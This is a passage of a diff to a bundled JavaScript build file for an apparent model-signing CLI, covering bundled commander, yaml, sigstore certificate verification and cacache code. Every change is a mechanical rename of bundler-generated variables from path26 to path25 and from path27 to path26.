@@ -1202,7 +1202,7 @@ var require_command = __commonJS({
   "node_modules/commander/lib/command.js"(exports) {
     var EventEmitter = __require("node:events").EventEmitter;
     var childProcess = __require("node:child_process");
-    var path26 = __require("node:path");
+    var path25 = __require("node:path");
     var fs2 = __require("node:fs");
     var process2 = __require("node:process");
     var { Argument: Argument2, humanReadableArgName } = require_argument();
@@ -2215,9 +2215,9 @@ Expecting one of '${allowedValues.join("', '")}'`);
         let launchWithNode = false;
         const sourceExt = [".js", ".ts", ".tsx", ".mjs", ".cjs"];
         function findFile(baseDir, baseName) {
-          const localBin = path26.resolve(baseDir, baseName);
+          const localBin = path25.resolve(baseDir, baseName);
           if (fs2.existsSync(localBin)) return localBin;
-          if (sourceExt.includes(path26.extname(baseName))) return void 0;
+          if (sourceExt.includes(path25.extname(baseName))) return void 0;
           const foundExt = sourceExt.find(
             (ext2) => fs2.existsSync(`${localBin}${ext2}`)
           );
@@ -2235,17 +2235,17 @@ Expecting one of '${allowedValues.join("', '")}'`);
           } catch {
             resolvedScriptPath = this._scriptPath;
           }
-          executableDir = path26.resolve(
-            path26.dirname(resolvedScriptPath),
+          executableDir = path25.resolve(
+            path25.dirname(resolvedScriptPath),
             executableDir
           );
         }
         if (executableDir) {
           let localFile = findFile(executableDir, executableFile);
           if (!localFile && !subcommand._executableFile && this._scriptPath) {
-            const legacyName = path26.basename(
+            const legacyName = path25.basename(
               this._scriptPath,
-              path26.extname(this._scriptPath)
+              path25.extname(this._scriptPath)
             );
             if (legacyName !== this._name) {
               localFile = findFile(
@@ -2256,7 +2256,7 @@ Expecting one of '${allowedValues.join("', '")}'`);
           }
           executableFile = localFile || executableFile;
         }
-        launchWithNode = sourceExt.includes(path26.extname(executableFile));
+        launchWithNode = sourceExt.includes(path25.extname(executableFile));
         let proc;
         if (process2.platform !== "win32") {
           if (launchWithNode) {
@@ -3171,7 +3171,7 @@ Expecting one of '${allowedValues.join("', '")}'`);
        * @return {Command}
        */
       nameFromFilename(filename) {
-        this._name = path26.basename(filename, path26.extname(filename));
+        this._name = path25.basename(filename, path25.extname(filename));
         return this;
       }
       /**
@@ -3185,9 +3185,9 @@ Expecting one of '${allowedValues.join("', '")}'`);
        * @param {string} [path]
        * @return {(string|null|Command)}
        */
-      executableDir(path27) {
-        if (path27 === void 0) return this._executableDir;
-        this._executableDir = path27;
+      executableDir(path26) {
+        if (path26 === void 0) return this._executableDir;
+        this._executableDir = path26;
         return this;
       }
       /**
@@ -3490,11 +3490,11 @@ var init_esm = __esm({
 });
 
 // src/errors.ts
-function reject(code, message, path26) {
-  return new ModelsignError(code, message, path26 === void 0 ? { kind: "reject" } : { kind: "reject", path: path26 });
+function reject(code, message, path25) {
+  return new ModelsignError(code, message, path25 === void 0 ? { kind: "reject" } : { kind: "reject", path: path25 });
 }
-function usage(code, message, path26) {
-  return new ModelsignError(code, message, path26 === void 0 ? { kind: "usage" } : { kind: "usage", path: path26 });
+function usage(code, message, path25) {
+  return new ModelsignError(code, message, path25 === void 0 ? { kind: "usage" } : { kind: "usage", path: path25 });
 }
 function toFailure(e) {
   return e.path === void 0 ? { code: e.code, message: e.message } : { code: e.code, path: e.path, message: e.message };
@@ -7521,17 +7521,17 @@ var require_visit = __commonJS({
     visit.BREAK = BREAK;
     visit.SKIP = SKIP;
     visit.REMOVE = REMOVE;
-    function visit_(key, node, visitor, path26) {
-      const ctrl = callVisitor(key, node, visitor, path26);
+    function visit_(key, node, visitor, path25) {
+      const ctrl = callVisitor(key, node, visitor, path25);
       if (identity.isNode(ctrl) || identity.isPair(ctrl)) {
-        replaceNode(key, path26, ctrl);
-        return visit_(key, ctrl, visitor, path26);
+        replaceNode(key, path25, ctrl);
+        return visit_(key, ctrl, visitor, path25);
       }
       if (typeof ctrl !== "symbol") {
         if (identity.isCollection(node)) {
-          path26 = Object.freeze(path26.concat(node));
+          path25 = Object.freeze(path25.concat(node));
           for (let i = 0; i < node.items.length; ++i) {
-            const ci2 = visit_(i, node.items[i], visitor, path26);
+            const ci2 = visit_(i, node.items[i], visitor, path25);
             if (typeof ci2 === "number")
               i = ci2 - 1;
             else if (ci2 === BREAK)
@@ -7542,13 +7542,13 @@ var require_visit = __commonJS({
             }
           }
         } else if (identity.isPair(node)) {
-          path26 = Object.freeze(path26.concat(node));
-          const ck = visit_("key", node.key, visitor, path26);
+          path25 = Object.freeze(path25.concat(node));
+          const ck = visit_("key", node.key, visitor, path25);
           if (ck === BREAK)
             return BREAK;
           else if (ck === REMOVE)
             node.key = null;
-          const cv = visit_("value", node.value, visitor, path26);
+          const cv = visit_("value", node.value, visitor, path25);
           if (cv === BREAK)
             return BREAK;
           else if (cv === REMOVE)
@@ -7569,17 +7569,17 @@ var require_visit = __commonJS({
     visitAsync.BREAK = BREAK;
     visitAsync.SKIP = SKIP;
     visitAsync.REMOVE = REMOVE;
-    async function visitAsync_(key, node, visitor, path26) {
-      const ctrl = await callVisitor(key, node, visitor, path26);
+    async function visitAsync_(key, node, visitor, path25) {
+      const ctrl = await callVisitor(key, node, visitor, path25);
       if (identity.isNode(ctrl) || identity.isPair(ctrl)) {
-        replaceNode(key, path26, ctrl);
-        return visitAsync_(key, ctrl, visitor, path26);
+        replaceNode(key, path25, ctrl);
+        return visitAsync_(key, ctrl, visitor, path25);
       }
       if (typeof ctrl !== "symbol") {
         if (identity.isCollection(node)) {
-          path26 = Object.freeze(path26.concat(node));
+          path25 = Object.freeze(path25.concat(node));
           for (let i = 0; i < node.items.length; ++i) {
-            const ci2 = await visitAsync_(i, node.items[i], visitor, path26);
+            const ci2 = await visitAsync_(i, node.items[i], visitor, path25);
             if (typeof ci2 === "number")
               i = ci2 - 1;
             else if (ci2 === BREAK)
@@ -7590,13 +7590,13 @@ var require_visit = __commonJS({
             }
           }
         } else if (identity.isPair(node)) {
-          path26 = Object.freeze(path26.concat(node));
-          const ck = await visitAsync_("key", node.key, visitor, path26);
+          path25 = Object.freeze(path25.concat(node));
+          const ck = await visitAsync_("key", node.key, visitor, path25);
           if (ck === BREAK)
             return BREAK;
           else if (ck === REMOVE)
             node.key = null;
-          const cv = await visitAsync_("value", node.value, visitor, path26);
+          const cv = await visitAsync_("value", node.value, visitor, path25);
           if (cv === BREAK)
             return BREAK;
           else if (cv === REMOVE)
@@ -7623,23 +7623,23 @@ var require_visit = __commonJS({
       }
       return visitor;
     }
-    function callVisitor(key, node, visitor, path26) {
+    function callVisitor(key, node, visitor, path25) {
       if (typeof visitor === "function")
-        return visitor(key, node, path26);
+        return visitor(key, node, path25);
       if (identity.isMap(node))
-        return visitor.Map?.(key, node, path26);
+        return visitor.Map?.(key, node, path25);
       if (identity.isSeq(node))
-        return visitor.Seq?.(key, node, path26);
+        return visitor.Seq?.(key, node, path25);
       if (identity.isPair(node))
-        return visitor.Pair?.(key, node, path26);
+        return visitor.Pair?.(key, node, path25);
       if (identity.isScalar(node))
-        return visitor.Scalar?.(key, node, path26);
+        return visitor.Scalar?.(key, node, path25);
       if (identity.isAlias(node))
-        return visitor.Alias?.(key, node, path26);
+        return visitor.Alias?.(key, node, path25);
       return void 0;
     }
-    function replaceNode(key, path26, node) {
-      const parent = path26[path26.length - 1];
+    function replaceNode(key, path25, node) {
+      const parent = path25[path25.length - 1];
       if (identity.isCollection(parent)) {
         parent.items[key] = node;
       } else if (identity.isPair(parent)) {
@@ -8251,10 +8251,10 @@ var require_Collection = __commonJS({
     var createNode = require_createNode();
     var identity = require_identity();
     var Node = require_Node();
-    function collectionFromPath(schema, path26, value) {
+    function collectionFromPath(schema, path25, value) {
       let v2 = value;
-      for (let i = path26.length - 1; i >= 0; --i) {
-        const k2 = path26[i];
+      for (let i = path25.length - 1; i >= 0; --i) {
+        const k2 = path25[i];
         if (typeof k2 === "number" && Number.isInteger(k2) && k2 >= 0) {
           const a = [];
           a[k2] = v2;
@@ -8273,7 +8273,7 @@ var require_Collection = __commonJS({
         sourceObjects: /* @__PURE__ */ new Map()
       });
     }
-    var isEmptyPath = (path26) => path26 == null || typeof path26 === "object" && !!path26[Symbol.iterator]().next().done;
+    var isEmptyPath = (path25) => path25 == null || typeof path25 === "object" && !!path25[Symbol.iterator]().next().done;
     var Collection = class extends Node.NodeBase {
       constructor(type, schema) {
         super(type);
@@ -8303,11 +8303,11 @@ var require_Collection = __commonJS({
        * be a Pair instance or a `{ key, value }` object, which may not have a key
        * that already exists in the map.
        */
-      addIn(path26, value) {
-        if (isEmptyPath(path26))
+      addIn(path25, value) {
+        if (isEmptyPath(path25))
           this.add(value);
         else {
-          const [key, ...rest] = path26;
+          const [key, ...rest] = path25;
           const node = this.get(key, true);
           if (identity.isCollection(node))
             node.addIn(rest, value);
@@ -8321,8 +8321,8 @@ var require_Collection = __commonJS({
        * Removes a value from the collection.
        * @returns `true` if the item was found and removed.
        */
-      deleteIn(path26) {
-        const [key, ...rest] = path26;
+      deleteIn(path25) {
+        const [key, ...rest] = path25;
         if (rest.length === 0)
           return this.delete(key);
         const node = this.get(key, true);
@@ -8336,8 +8336,8 @@ var require_Collection = __commonJS({
        * scalar values from their surrounding node; to disable set `keepScalar` to
        * `true` (collections are always returned intact).
        */
-      getIn(path26, keepScalar) {
-        const [key, ...rest] = path26;
+      getIn(path25, keepScalar) {
+        const [key, ...rest] = path25;
         const node = this.get(key, true);
         if (rest.length === 0)
           return !keepScalar && identity.isScalar(node) ? node.value : node;
@@ -8355,8 +8355,8 @@ var require_Collection = __commonJS({
       /**
        * Checks if the collection includes a value with the key `key`.
        */
-      hasIn(path26) {
-        const [key, ...rest] = path26;
+      hasIn(path25) {
+        const [key, ...rest] = path25;
         if (rest.length === 0)
           return this.has(key);
         const node = this.get(key, true);
@@ -8366,8 +8366,8 @@ var require_Collection = __commonJS({
        * Sets a value in this collection. For `!!set`, `value` needs to be a
        * boolean to add/remove the item from the set.
        */
-      setIn(path26, value) {
-        const [key, ...rest] = path26;
+      setIn(path25, value) {
+        const [key, ...rest] = path25;
         if (rest.length === 0) {
           this.set(key, value);
         } else {
@@ -10882,9 +10882,9 @@ var require_Document = __commonJS({
           this.contents.add(value);
       }
       /** Adds a value to the document. */
-      addIn(path26, value) {
+      addIn(path25, value) {
         if (assertCollection(this.contents))
-          this.contents.addIn(path26, value);
+          this.contents.addIn(path25, value);
       }
       /**
        * Create a new `Alias` node, ensuring that the target `node` has the required anchor.
@@ -10959,14 +10959,14 @@ var require_Document = __commonJS({
        * Removes a value from the document.
        * @returns `true` if the item was found and removed.
        */
-      deleteIn(path26) {
-        if (Collection.isEmptyPath(path26)) {
+      deleteIn(path25) {
+        if (Collection.isEmptyPath(path25)) {
           if (this.contents == null)
             return false;
           this.contents = null;
           return true;
         }
-        return assertCollection(this.contents) ? this.contents.deleteIn(path26) : false;
+        return assertCollection(this.contents) ? this.contents.deleteIn(path25) : false;
       }
       /**
        * Returns item at `key`, or `undefined` if not found. By default unwraps
@@ -10981,10 +10981,10 @@ var require_Document = __commonJS({
        * scalar values from their surrounding node; to disable set `keepScalar` to
        * `true` (collections are always returned intact).
        */
-      getIn(path26, keepScalar) {
-        if (Collection.isEmptyPath(path26))
+      getIn(path25, keepScalar) {
+        if (Collection.isEmptyPath(path25))
           return !keepScalar && identity.isScalar(this.contents) ? this.contents.value : this.contents;
-        return identity.isCollection(this.contents) ? this.contents.getIn(path26, keepScalar) : void 0;
+        return identity.isCollection(this.contents) ? this.contents.getIn(path25, keepScalar) : void 0;
       }
       /**
        * Checks if the document includes a value with the key `key`.
@@ -10995,10 +10995,10 @@ var require_Document = __commonJS({
       /**
        * Checks if the document includes a value at `path`.
        */
-      hasIn(path26) {
-        if (Collection.isEmptyPath(path26))
+      hasIn(path25) {
+        if (Collection.isEmptyPath(path25))
           return this.contents !== void 0;
-        return identity.isCollection(this.contents) ? this.contents.hasIn(path26) : false;
+        return identity.isCollection(this.contents) ? this.contents.hasIn(path25) : false;
       }
       /**
        * Sets a value in this document. For `!!set`, `value` needs to be a
@@ -11015,13 +11015,13 @@ var require_Document = __commonJS({
        * Sets a value in this document. For `!!set`, `value` needs to be a
        * boolean to add/remove the item from the set.
        */
-      setIn(path26, value) {
-        if (Collection.isEmptyPath(path26)) {
+      setIn(path25, value) {
+        if (Collection.isEmptyPath(path25)) {
           this.contents = value;
         } else if (this.contents == null) {
-          this.contents = Collection.collectionFromPath(this.schema, Array.from(path26), value);
+          this.contents = Collection.collectionFromPath(this.schema, Array.from(path25), value);
         } else if (assertCollection(this.contents)) {
-          this.contents.setIn(path26, value);
+          this.contents.setIn(path25, value);
         }
       }
       /**
@@ -12982,9 +12982,9 @@ var require_cst_visit = __commonJS({
     visit.BREAK = BREAK;
     visit.SKIP = SKIP;
     visit.REMOVE = REMOVE;
-    visit.itemAtPath = (cst, path26) => {
+    visit.itemAtPath = (cst, path25) => {
       let item = cst;
-      for (const [field, index] of path26) {
+      for (const [field, index] of path25) {
         const tok = item?.[field];
         if (tok && "items" in tok) {
           item = tok.items[index];
@@ -12993,23 +12993,23 @@ var require_cst_visit = __commonJS({
       }
       return item;
     };
-    visit.parentCollection = (cst, path26) => {
-      const parent = visit.itemAtPath(cst, path26.slice(0, -1));
-      const field = path26[path26.length - 1][0];
+    visit.parentCollection = (cst, path25) => {
+      const parent = visit.itemAtPath(cst, path25.slice(0, -1));
+      const field = path25[path25.length - 1][0];
       const coll = parent?.[field];
       if (coll && "items" in coll)
         return coll;
       throw new Error("Parent collection not found");
     };
-    function _visit(path26, item, visitor) {
-      let ctrl = visitor(item, path26);
+    function _visit(path25, item, visitor) {
+      let ctrl = visitor(item, path25);
       if (typeof ctrl === "symbol")
         return ctrl;
       for (const field of ["key", "value"]) {
         const token = item[field];
         if (token && "items" in token) {
           for (let i = 0; i < token.items.length; ++i) {
-            const ci2 = _visit(Object.freeze(path26.concat([[field, i]])), token.items[i], visitor);
+            const ci2 = _visit(Object.freeze(path25.concat([[field, i]])), token.items[i], visitor);
             if (typeof ci2 === "number")
               i = ci2 - 1;
             else if (ci2 === BREAK)
@@ -13020,10 +13020,10 @@ var require_cst_visit = __commonJS({
             }
           }
           if (typeof ctrl === "function" && field === "key")
-            ctrl = ctrl(item, path26);
+            ctrl = ctrl(item, path25);
         }
       }
-      return typeof ctrl === "function" ? ctrl(item, path26) : ctrl;
+      return typeof ctrl === "function" ? ctrl(item, path25) : ctrl;
     }
     exports.visit = visit;
   }
@@ -20664,15 +20664,15 @@ var require_certificate = __commonJS({
       sort() {
         const leafCert = this.untrustedCert;
         let paths = this.buildPaths(leafCert);
-        paths = paths.filter((path27) => path27.some((cert) => this.trustedCerts.includes(cert)));
+        paths = paths.filter((path26) => path26.some((cert) => this.trustedCerts.includes(cert)));
         if (paths.length === 0) {
           throw new error_1.VerificationError({
             code: "CERTIFICATE_ERROR",
             message: "no trusted certificate path found"
           });
         }
-        const path26 = paths.reduce((prev, curr) => prev.length < curr.length ? prev : curr);
-        return [leafCert, ...path26].slice(0, -1);
+        const path25 = paths.reduce((prev, curr) => prev.length < curr.length ? prev : curr);
+        return [leafCert, ...path25].slice(0, -1);
       }
       // Recursively build all possible paths from the leaf to the root
       buildPaths(certificate) {
@@ -20731,30 +20731,30 @@ var require_certificate = __commonJS({
         });
         return issuers;
       }
-      checkPath(path26) {
-        if (path26.length < 1) {
+      checkPath(path25) {
+        if (path25.length < 1) {
           throw new error_1.VerificationError({
             code: "CERTIFICATE_ERROR",
             message: "certificate chain must contain at least one certificate"
           });
         }
-        const validCAs = path26.slice(1).every((cert) => cert.isCA);
+        const validCAs = path25.slice(1).every((cert) => cert.isCA);
         if (!validCAs) {
           throw new error_1.VerificationError({
             code: "CERTIFICATE_ERROR",
             message: "intermediate certificate is not a CA"
           });
         }
-        for (let i = path26.length - 2; i >= 0; i--) {
-          if (!path26[i].issuer.equals(path26[i + 1].subject)) {
+        for (let i = path25.length - 2; i >= 0; i--) {
+          if (!path25[i].issuer.equals(path25[i + 1].subject)) {
             throw new error_1.VerificationError({
               code: "CERTIFICATE_ERROR",
               message: "incorrect certificate name chaining"
             });
           }
         }
-        for (let i = 0; i < path26.length; i++) {
-          const cert = path26[i];
+        for (let i = 0; i < path25.length; i++) {
+          const cert = path25[i];
           if (cert.extBasicConstraints?.isCA) {
             const pathLength = cert.extBasicConstraints.pathLenConstraint;
             if (pathLength !== void 0 && pathLength < i - 1) {
@@ -20858,13 +20858,13 @@ var require_key = __commonJS({
       return { key: key.publicKey };
     }
     function verifyCertificate(leaf, timestamps, trustMaterial) {
-      let path26 = [];
+      let path25 = [];
       timestamps.forEach((timestamp) => {
-        path26 = (0, certificate_1.verifyCertificateChain)(timestamp, leaf, trustMaterial.certificateAuthorities);
+        path25 = (0, certificate_1.verifyCertificateChain)(timestamp, leaf, trustMaterial.certificateAuthorities);
       });
       return {
-        scts: (0, sct_1.verifySCTs)(path26[0], path26[1], trustMaterial.ctlogs),
-        signer: getSigner(path26[0])
+        scts: (0, sct_1.verifySCTs)(path25[0], path25[1], trustMaterial.ctlogs),
+        signer: getSigner(path25[0])
       };
     }
     function getSigner(cert) {
@@ -22430,7 +22430,7 @@ var require_file = __commonJS({
           ...this.unrecognizedFields
         };
       }
-      static fromJSON(path26, data) {
+      static fromJSON(path25, data) {
         const { length, hashes, ...rest } = data;
         if (typeof length !== "number") {
           throw new TypeError("length must be a number");
@@ -22440,7 +22440,7 @@ var require_file = __commonJS({
         }
         return new _TargetFile({
           length,
-          path: path26,
+          path: path25,
           hashes,
           unrecognizedFields: rest
         });
@@ -24015,11 +24015,11 @@ var require_commonjs3 = __commonJS({
       return (f2) => f2.length === len && f2 !== "." && f2 !== "..";
     };
     var defaultPlatform = typeof process === "object" && process ? typeof process.env === "object" && process.env && process.env.__MINIMATCH_TESTING_PLATFORM__ || process.platform : "posix";
-    var path26 = {
+    var path25 = {
       win32: { sep: "\\" },
       posix: { sep: "/" }
     };
-    exports.sep = defaultPlatform === "win32" ? path26.win32.sep : path26.posix.sep;
+    exports.sep = defaultPlatform === "win32" ? path25.win32.sep : path25.posix.sep;
     exports.minimatch.sep = exports.sep;
     exports.GLOBSTAR = Symbol("globstar **");
     exports.minimatch.GLOBSTAR = exports.GLOBSTAR;
@@ -25247,9 +25247,9 @@ var require_snapshot = __commonJS({
     };
     exports.Snapshot = Snapshot;
     function metaToJSON(meta) {
-      return Object.entries(meta).reduce((acc, [path26, metadata]) => ({
+      return Object.entries(meta).reduce((acc, [path25, metadata]) => ({
         ...acc,
-        [path26]: metadata.toJSON()
+        [path25]: metadata.toJSON()
       }), {});
     }
     function metaFromJSON(data) {
@@ -25258,9 +25258,9 @@ var require_snapshot = __commonJS({
         if (!utils_1.guard.isObjectRecord(data)) {
           throw new TypeError("meta field is malformed");
         } else {
-          meta = Object.entries(data).reduce((acc, [path26, metadata]) => ({
+          meta = Object.entries(data).reduce((acc, [path25, metadata]) => ({
             ...acc,
-            [path26]: file_1.MetaFile.fromJSON(metadata)
+            [path25]: file_1.MetaFile.fromJSON(metadata)
           }), {});
         }
       }
@@ -25442,9 +25442,9 @@ var require_targets = __commonJS({
     };
     exports.Targets = Targets;
     function targetsToJSON(targets) {
-      return Object.entries(targets).reduce((acc, [path26, target]) => ({
+      return Object.entries(targets).reduce((acc, [path25, target]) => ({
         ...acc,
-        [path26]: target.toJSON()
+        [path25]: target.toJSON()
       }), {});
     }
     function targetsFromJSON(data) {
@@ -25453,9 +25453,9 @@ var require_targets = __commonJS({
         if (!utils_1.guard.isObjectRecord(data)) {
           throw new TypeError("targets must be an object");
         } else {
-          targets = Object.entries(data).reduce((acc, [path26, target]) => ({
+          targets = Object.entries(data).reduce((acc, [path25, target]) => ({
             ...acc,
-            [path26]: file_1.TargetFile.fromJSON(path26, target)
+            [path25]: file_1.TargetFile.fromJSON(path25, target)
           }), {});
         }
       }
@@ -36199,8 +36199,8 @@ var require_polyfill = __commonJS({
       );
     }
     function getValidatedPath(fileURLOrPath) {
-      const path26 = fileURLOrPath != null && fileURLOrPath.href && fileURLOrPath.origin ? fileURLToPath3(fileURLOrPath) : fileURLOrPath;
-      return path26;
+      const path25 = fileURLOrPath != null && fileURLOrPath.href && fileURLOrPath.origin ? fileURLToPath3(fileURLOrPath) : fileURLOrPath;
+      return path25;
     }
     async function cpFn(src, dest, opts) {
       if (opts.preserveTimestamps && process.arch === "ia32") {
@@ -36309,7 +36309,7 @@ var require_polyfill = __commonJS({
       }
       return checkParentPaths(src, srcStat, destParent);
     }
-    var normalizePathToArray = (path26) => resolve(path26).split(sep).filter(Boolean);
+    var normalizePathToArray = (path25) => resolve(path25).split(sep).filter(Boolean);
     function isSrcSubdir(src, dest) {
       const srcArr = normalizePathToArray(src);
       const destArr = normalizePathToArray(dest);
@@ -36560,9 +36560,9 @@ var require_move_file = __commonJS({
   "node_modules/@npmcli/fs/lib/move-file.js"(exports, module) {
     var { dirname, join: join2, resolve, relative, isAbsolute } = __require("path");
     var fs2 = __require("fs/promises");
-    var pathExists = async (path26) => {
+    var pathExists = async (path25) => {
       try {
-        await fs2.access(path26);
+        await fs2.access(path25);
         return true;
       } catch (er2) {
         return er2.code !== "ENOENT";
@@ -36650,17 +36650,17 @@ var require_tmp = __commonJS({
     var crypto = __require("crypto");
     var { withTempDir } = require_lib5();
     var fs2 = __require("fs/promises");
-    var path26 = __require("path");
+    var path25 = __require("path");
     module.exports.mkdir = mktmpdir;
     module.exports.tmpName = function tmpName(cache, tmpPrefix) {
       const id2 = crypto.randomUUID();
-      return path26.join(cache, "tmp", tmpPrefix ? `${tmpPrefix}-${id2}` : id2);
+      return path25.join(cache, "tmp", tmpPrefix ? `${tmpPrefix}-${id2}` : id2);
     };
     async function mktmpdir(cache, opts = {}) {
       const { tmpPrefix } = opts;
-      const tmpDir = path26.join(cache, "tmp");
+      const tmpDir = path25.join(cache, "tmp");
       await fs2.mkdir(tmpDir, { recursive: true, owner: "inherit" });
-      const target = `${tmpDir}${path26.sep}${tmpPrefix || ""}`;
+      const target = `${tmpDir}${path25.sep}${tmpPrefix || ""}`;
       return fs2.mkdtemp(target, { owner: "inherit" });
     }
     module.exports.withTmp = withTmp;
@@ -36669,7 +36669,7 @@ var require_tmp = __commonJS({
         cb = opts;
         opts = {};
       }
-      return withTempDir(path26.join(cache, "tmp"), cb, opts);
+      return withTempDir(path25.join(cache, "tmp"), cb, opts);
     }
   }
 });
@@ -36778,12 +36778,12 @@ var require_path = __commonJS({
     "use strict";
     var contentVer = require_package2()["cache-version"].content;
     var hashToSegments = require_hash_to_segments();
-    var path26 = __require("path");
+    var path25 = __require("path");
     var ssri = require_lib4();
     module.exports = contentPath;
     function contentPath(cache, integrity) {
       const sri = ssri.parse(integrity, { single: true });
-      return path26.join(
+      return path25.join(
         contentDir(cache),
         sri.algorithm,
         ...hashToSegments(sri.hexDigest())
@@ -36791,7 +36791,7 @@ var require_path = __commonJS({
     }
     module.exports.contentDir = contentDir;
     function contentDir(cache) {
-      return path26.join(cache, `content-v${contentVer}`);
+      return path25.join(cache, `content-v${contentVer}`);
     }
   }
 });
@@ -37262,7 +37262,7 @@ var require_entry_index = __commonJS({
       writeFile: writeFile5
     } = __require("fs/promises");
     var { Minipass } = require_commonjs4();
-    var path26 = __require("path");
+    var path25 = __require("path");
     var ssri = require_lib4();
     var { tmpName } = require_tmp();
     var contentPath = require_path();
@@ -37299,7 +37299,7 @@ var require_entry_index = __commonJS({
       }).join("\n");
       const setup = async () => {
         const target = tmpName(cache, opts.tmpPrefix);
-        await mkdir6(path26.dirname(target), { recursive: true });
+        await mkdir6(path25.dirname(target), { recursive: true });
         return {
           target,
           moved: false
@@ -37312,7 +37312,7 @@ var require_entry_index = __commonJS({
       };
       const write = async (tmp2) => {
         await writeFile5(tmp2.target, newIndex, { flag: "wx" });
-        await mkdir6(path26.dirname(bucket), { recursive: true });
+        await mkdir6(path25.dirname(bucket), { recursive: true });
         await moveFile(tmp2.target, bucket);
         tmp2.moved = true;
       };
@@ -37336,7 +37336,7 @@ var require_entry_index = __commonJS({
         metadata
       };
       try {
-        await mkdir6(path26.dirname(bucket), { recursive: true });
+        await mkdir6(path25.dirname(bucket), { recursive: true });
         const stringified = JSON.stringify(entry);
         await appendFile2(bucket, `
 ${hashEntry(stringified)}	${stringified}`);
@@ -37386,17 +37386,17 @@ ${hashEntry(stringified)}	${stringified}`);
         await pMap2(
           buckets,
           async (bucket) => {
-            const bucketPath2 = path26.join(indexDir, bucket);
+            const bucketPath2 = path25.join(indexDir, bucket);
             const subbuckets = await readdirOrEmpty(bucketPath2);
             await pMap2(
               subbuckets,
               async (subbucket) => {
-                const subbucketPath = path26.join(bucketPath2, subbucket);
+                const subbucketPath = path25.join(bucketPath2, subbucket);
                 const subbucketEntries = await readdirOrEmpty(subbucketPath);
                 await pMap2(
                   subbucketEntries,
                   async (entry) => {
-                    const entryPath = path26.join(subbucketPath, entry);
+                    const entryPath = path25.join(subbucketPath, entry);
                     try {
                       const entries = await bucketEntries(entryPath);
                       const reduced = entries.reduce((acc, entry2) => {
@@ -37465,13 +37465,13 @@ ${hashEntry(stringified)}	${stringified}`);
     }
     module.exports.bucketDir = bucketDir;
     function bucketDir(cache) {
-      return path26.join(cache, `index-v${indexV}`);
+      return path25.join(cache, `index-v${indexV}`);
     }
     module.exports.bucketPath = bucketPath;
     function bucketPath(cache, key) {
       const hashed = hashKey(key);
-      return path26.join.apply(
-        path26,
+      return path25.join.apply(
+        path25,
         [bucketDir(cache)].concat(hashToSegments(hashed))
       );
     }
@@ -38217,17 +38217,17 @@ var require_lib6 = __commonJS({
     var _defaultFlag = Symbol("_defaultFlag");
     var _errored = Symbol("_errored");
     var ReadStream = class extends Minipass {
-      constructor(path26, opt) {
+      constructor(path25, opt) {
         opt = opt || {};
         super(opt);
         this.readable = true;
         this.writable = false;
-        if (typeof path26 !== "string") {
+        if (typeof path25 !== "string") {
           throw new TypeError("path must be a string");
         }
         this[_errored] = false;
         this[_fd] = typeof opt.fd === "number" ? opt.fd : null;
-        this[_path] = path26;
+        this[_path] = path25;
         this[_readSize] = opt.readSize || 16 * 1024 * 1024;
         this[_reading] = false;
         this[_size] = typeof opt.size === "number" ? opt.size : Infinity;
@@ -38373,7 +38373,7 @@ var require_lib6 = __commonJS({
       }
     };
     var WriteStream = class extends EE {
-      constructor(path26, opt) {
+      constructor(path25, opt) {
         opt = opt || {};
         super(opt);
         this.readable = false;
@@ -38383,7 +38383,7 @@ var require_lib6 = __commonJS({
         this[_ended] = false;
         this[_needDrain] = false;
         this[_queue] = [];
-        this[_path] = path26;
+        this[_path] = path25;
         this[_fd] = typeof opt.fd === "number" ? opt.fd : null;
         this[_mode] = opt.mode === void 0 ? 438 : opt.mode;
         this[_pos] = typeof opt.start === "number" ? opt.start : null;
@@ -38691,11 +38691,11 @@ var require_read = __commonJS({
       err.code = "EBADSIZE";
       return err;
     }
-    function integrityError(sri, path26) {
-      const err = new Error(`Integrity verification failed for ${sri} (${path26})`);
+    function integrityError(sri, path25) {
+      const err = new Error(`Integrity verification failed for ${sri} (${path25})`);
       err.code = "EINTEGRITY";
       err.sri = sri;
-      err.path = path26;
+      err.path = path25;
       return err;
     }
   }
@@ -38863,7 +38863,7 @@ var require_write = __commonJS({
     var { Minipass } = require_commonjs4();
     var Pipeline = require_minipass_pipeline();
     var Flush = require_minipass_flush();
-    var path26 = __require("path");
+    var path25 = __require("path");
     var ssri = require_lib4();
     var { tmpName } = require_tmp();
     var fsm = require_lib6();
@@ -38983,7 +38983,7 @@ var require_write = __commonJS({
     }
     async function makeTmp(cache, opts) {
       const tmpTarget = tmpName(cache, opts.tmpPrefix);
-      await fs2.mkdir(path26.dirname(tmpTarget), { recursive: true });
+      await fs2.mkdir(path25.dirname(tmpTarget), { recursive: true });
       return {
         target: tmpTarget,
         moved: false
@@ -38991,7 +38991,7 @@ var require_write = __commonJS({
     }
     async function moveToDestination(tmp, cache, sri) {
       const destination = contentPath(cache, sri);
-      const destDir = path26.dirname(destination);
+      const destDir = path25.dirname(destination);
       if (moveOperations.has(destination)) {
         return moveOperations.get(destination);
       }
@@ -42125,9 +42125,9 @@ var require_glob = __commonJS({
   "node_modules/cacache/lib/util/glob.js"(exports, module) {
     "use strict";
     var { glob } = require_index_min2();
-    var path26 = __require("path");
-    var globify = (pattern) => pattern.split(path26.win32.sep).join(path26.posix.sep);
-    module.exports = (path27, options) => glob(globify(path27), options);
+    var path25 = __require("path");
+    var globify = (pattern) => pattern.split(path25.win32.sep).join(path25.posix.sep);
+    module.exports = (path26, options) => glob(globify(path26), options);
   }
 });
 
@@ -42159,7 +42159,7 @@ var require_rm2 = __commonJS({
     var glob = require_glob();
     var index = require_entry_index();
     var memo = require_memoization();
-    var path26 = __require("path");
+    var path25 = __require("path");
     var rmContent = require_rm();
     module.exports = entry;
     module.exports.entry = entry;
@@ -42175,7 +42175,7 @@ var require_rm2 = __commonJS({
     module.exports.all = all;
     async function all(cache) {
       memo.clearMemoized();
-      const paths = await glob(path26.join(cache, "*(content-*|index-*)"), { silent: true, nosort: true });
+      const paths = await glob(path25.join(cache, "*(content-*|index-*)"), { silent: true, nosort: true });
       return Promise.all(paths.map((p2) => rm4(p2, { recursive: true, force: true })));
     }
   }
@@ -42197,7 +42197,7 @@ var require_verify2 = __commonJS({
     var fsm = require_lib6();
     var glob = require_glob();
     var index = require_entry_index();
-    var path26 = __require("path");
+    var path25 = __require("path");
     var ssri = require_lib4();
     var hasOwnProperty = (obj, key) => Object.prototype.hasOwnProperty.call(obj, key);
     var verifyOpts = (opts) => ({
@@ -42274,7 +42274,7 @@ var require_verify2 = __commonJS({
         indexStream.on("end", resolve).on("error", reject2);
       });
       const contentDir = contentPath.contentDir(cache);
-      const files = await glob(path26.join(contentDir, "**"), {
